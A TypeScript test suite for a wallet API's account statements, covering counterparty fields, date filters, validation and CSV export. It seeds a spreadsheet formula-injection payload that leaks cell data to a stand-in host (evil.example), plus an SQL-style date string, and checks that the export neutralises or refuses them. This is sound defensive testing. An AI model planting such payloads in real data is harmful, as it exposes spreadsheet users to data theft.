/**
 * Statements for people: each line names its transaction's description and reference and the
 * wallet on the other side; `from` (inclusive) and `to` (exclusive) narrow it to dates, bad dates
 * are refused (400, nothing read); `Accept: text/csv` gives an RFC 4180 CSV whose cells can never
 * run as a spreadsheet formula, paged through `Link`; `?include=total` counts the range.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvCell } from '../../src/api/statement-csv.js';
import { backends } from '../support/backends.js';
import { type CurrencyRecord, isoCurrency, topup, wallet, type WalletRecord } from '../support/fixtures.js';
import { expectProblem, expectStatus, type Harness, startHarness } from '../support/harness.js';

interface Line {
  readonly id: string;
  readonly kind: string;
  readonly direction: string;
  readonly amount: string;
  readonly balanceAfter: string;
  readonly createdAt: string;
  readonly description: string | null;
  readonly reference: string | null;
  readonly counterpartyWalletId: string | null;
  readonly counterpartyWalletSerial: string | null;
}

/** A minimal RFC 4180 reader: enough to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index] as string;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index++;
    } else cell += char;
  }
  assert.equal(cell + row.join(''), '', 'the CSV ends with CRLF');
  return rows;
}

const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

for (const backend of backends) {
  describe(`statements for people [${backend.name}]`, () => {
    let harness: Harness;
    let usd: CurrencyRecord;
    let alice: WalletRecord;
    let bob: WalletRecord;
    before(async () => {
      harness = await startHarness(backend);
      usd = await isoCurrency(harness, 'USD');
      alice = await wallet(harness, usd.id, { merchantId: 'shop-a' });
      bob = await wallet(harness, usd.id, { merchantId: 'shop-b' });
      await topup(harness, alice.id, '10000');
      await new Promise((resolve) => setTimeout(resolve, 15));
      expectStatus(
        await harness.request('POST', '/v1/transfers', {
          fromWalletId: alice.id,
          toWalletId: bob.id,
          amount: '1250',
          description: 'Rent, "November"',
          reference: 'INV-42',
        }),
        201,
      );
      await new Promise((resolve) => setTimeout(resolve, 15));
      expectStatus(
        await harness.request('POST', '/v1/transfers', { fromWalletId: alice.id, toWalletId: bob.id, amount: '5', description: hostile, reference: '+1-555' }),
        201,
      );
      await new Promise((resolve) => setTimeout(resolve, 15));
      expectStatus(await harness.request('POST', '/v1/withdrawals', { walletId: alice.id, amount: '100', reference: '@sum(A1)' }), 201);
    });
    after(() => harness.close());

    it('names the description, reference and counterparty wallet of each line', async () => {
      const page = expectStatus<{ data: Line[] }>(await harness.request('GET', `/v1/wallets/${alice.id}/entries`), 200);
      const systemType = async (id: string | null) => expectStatus<{ type: string }>(await harness.request('GET', `/v1/wallets/${id}`), 200).type;
      const [withdrawal, , , top] = page.data as [Line, Line, Line, Line];
      assert.deepEqual(
        page.data
          .slice(1, 3)
          .map((line) => [
            line.kind,
            line.amount,
            line.balanceAfter,
            line.description,
            line.reference,
            line.counterpartyWalletId,
            line.counterpartyWalletSerial,
          ]),
        [
          ['transfer', '5', '8745', hostile, '+1-555', bob.id, bob.serial],
          ['transfer', '1250', '8750', 'Rent, "November"', 'INV-42', bob.id, bob.serial],
        ],
      );
      // A top-up's other side is the currency's issuing account, a withdrawal's its settlement account.
      assert.deepEqual(
        [withdrawal.kind, withdrawal.balanceAfter, withdrawal.reference, await systemType(withdrawal.counterpartyWalletId)],
        ['withdrawal', '8645', '@sum(A1)', 'settlement'],
      );
      assert.deepEqual([top.kind, top.description, await systemType(top.counterpartyWalletId)], ['topup', null, 'issuing']);
      const bobs = expectStatus<{ data: Line[] }>(await harness.request('GET', `/v1/wallets/${bob.id}/entries`), 200);
      assert.deepEqual(
        bobs.data.map((line) => [line.direction, line.counterpartyWalletId]),
        [
          ['credit', alice.id],
          ['credit', alice.id],
        ],
      );
    });

    it("shows a merchant another merchant's wallet by id only, never its serial", async () => {
      const shopA = await harness.merchantKey('shop-a');
      const page = expectStatus<{ data: Line[] }>(await harness.request('GET', `/v1/wallets/${alice.id}/entries`, undefined, { key: shopA }), 200);
      const transfer = page.data.find((line) => line.reference === 'INV-42');
      assert.equal(transfer?.counterpartyWalletId, bob.id);
      assert.equal(transfer?.counterpartyWalletSerial, null);
      assert.ok(
        page.data.every((line) => line.counterpartyWalletSerial === null),
        'nor the serial of a system account',
      );
      expectProblem(await harness.request('GET', `/v1/wallets/${bob.id}/entries`, undefined, { key: shopA }), 404, 'not_found');
    });

    it('narrows to dates: from inclusive, to exclusive, and counts the range with include=total', async () => {
      const all = expectStatus<{ data: Line[]; total: number }>(await harness.request('GET', `/v1/wallets/${alice.id}/entries?include=total`), 200);
      assert.equal(all.total, 4);
      const [withdrawal, small, rent] = all.data as [Line, Line, Line];
      const url = (query: string) => `/v1/wallets/${alice.id}/entries?include=total&${query}`;
      const window = expectStatus<{ data: Line[]; total: number }>(
        await harness.request('GET', url(`from=${encodeURIComponent(rent.createdAt)}&to=${encodeURIComponent(withdrawal.createdAt)}`)),
        200,
      );
      assert.deepEqual(
        window.data.map((line) => line.id),
        [small.id, rent.id],
      );
      assert.equal(window.total, 2);
      const paged = expectStatus<{ data: Line[]; nextCursor: string; total: number }>(
        await harness.request('GET', url(`from=${encodeURIComponent(rent.createdAt)}&limit=1`)),
        200,
      );
      assert.equal(paged.total, 3, 'the total counts the range, not the page');
      const next = expectStatus<{ data: Line[]; total: number }>(
        await harness.request('GET', url(`from=${encodeURIComponent(rent.createdAt)}&limit=1&cursor=${paged.nextCursor}`)),
        200,
      );
      assert.deepEqual([next.data[0]?.id, next.total], [small.id, 3]);
      const future = expectStatus<{ data: Line[]; total: number }>(await harness.request('GET', url('from=2999-01-01')), 200);
      assert.deepEqual([future.data, future.total], [[], 0]);
      const past = expectStatus<{ data: Line[] }>(await harness.request('GET', url('to=2000-01-01T00:00:00%2B02:00')), 200);
      assert.deepEqual(past.data, []);
    });

    it('refuses bad dates and bad include values with 400', async () => {
      for (const query of [
        'from=yesterday',
        'from=2026-02-30',
        'to=2026-13-01',
        'from=2026-11-01T10:00:00',
        'from=1%20OR%201=1',
        'from=2026-11-02&to=2026-11-01',
        'include=count',
        'include=total,total',
      ]) {
        expectProblem(await harness.request('GET', `/v1/wallets/${alice.id}/entries?${query}`), 400, 'validation_failed');
      }
    });

    it('answers CSV with a header row, minor units and decimals, quoted cells and no live formula, paged through Link', async () => {
      const first = await harness.request('GET', `/v1/wallets/${alice.id}/entries?limit=3&include=total`, undefined, { headers: { accept: 'text/csv' } });
      assert.equal(first.statusCode, 200, first.body);
      assert.match(String(first.headers['content-type']), /^text\/csv/);
      assert.equal(first.headers['coffer-total'], '4');
      const rows = parseCsv(first.body);
      assert.deepEqual(rows[0], [
        'createdAt',
        'entryId',
        'transactionId',
        'kind',
        'direction',
        'amount',
        'amountDecimal',
        'balanceAfter',
        'balanceAfterDecimal',
        'currencyCode',
        'description',
        'reference',
        'counterpartyWalletId',
        'counterpartyWalletSerial',
      ]);
      assert.equal(rows.length, 4);
      const [withdrawal, small, rent] = rows.slice(1) as [string[], string[], string[]];
      assert.deepEqual(rent.slice(3), ['transfer', 'debit', '1250', '12.50', '8750', '87.50', 'USD', 'Rent, "November"', 'INV-42', bob.id, bob.serial]);
      assert.equal(small[10], `'${hostile}`, 'a formula is neutralised');
      assert.equal(small[11], "'+1-555");
      assert.equal(withdrawal[11], "'@sum(A1)");
      for (const cell of rows.flat()) assert.ok(!/^[=+@\t\r]/.test(cell) && !/^-(?!\d+(\.\d+)?$)/.test(cell), `live cell: ${cell}`);
      const cursor = String(first.headers['coffer-next-cursor']);
      const link = String(first.headers.link);
      assert.match(link, /^<\/v1\/wallets\/[0-9a-f-]+\/entries\?[^>]*cursor=[^>]+>; rel="next"$/);
      const nextUrl = (/^<([^>]+)>/.exec(link) as RegExpExecArray)[1] as string;
      assert.ok(nextUrl.includes(`cursor=${cursor}`));
      const second = await harness.request('GET', nextUrl, undefined, { headers: { accept: 'text/csv' } });
      const secondRows = parseCsv(second.body);
      assert.deepEqual(
        secondRows.slice(1).map((row) => [row[3], row[5]]),
        [['topup', '10000']],
      );
      assert.equal(second.headers.link, undefined, 'the last page has no next link');
      // JSON stays the default; q=0 refuses CSV.
      const json = await harness.request('GET', `/v1/wallets/${alice.id}/entries`, undefined, { headers: { accept: 'application/json, text/csv;q=0' } });
      assert.match(String(json.headers['content-type']), /application\/json/);
      // A refusal stays a problem document whatever was accepted.
      const refused = await harness.request('GET', `/v1/wallets/${alice.id}/entries?from=never`, undefined, { headers: { accept: 'text/csv' } });
      assert.equal(refused.statusCode, 400);
      assert.match(String(refused.headers['content-type']), /application\/problem\+json/);
    });

    it('quotes and neutralises cells as RFC 4180 and OWASP ask', () => {
      assert.deepEqual(['plain', 'a,b', 'say "hi"', 'two\r\nlines', '=1+1', '+1', '-1+1', '@x', '\tx', '-500', '-5.00', '', null].map(csvCell), [
        'plain',
        '"a,b"',
        '"say ""hi"""',
        '"two\r\nlines"',
        "'=1+1",
        "'+1",
        "'-1+1",
        "'@x",
        "'\tx",
        '-500',
        '-5.00',
        '',
        '',
      ]);
    });

    it('keeps the ledger balanced', async () => {
      await harness.assertLedgerConsistent();
      const trial = expectStatus<{ data: { posted: string; pending: string; balanced: boolean }[] }>(
        await harness.request('GET', '/v1/reports/trial-balance'),
        200,
      );
      assert.ok(trial.data.every((currency) => currency.balanced && currency.posted === '0' && currency.pending === '0'));
    });
  });
}
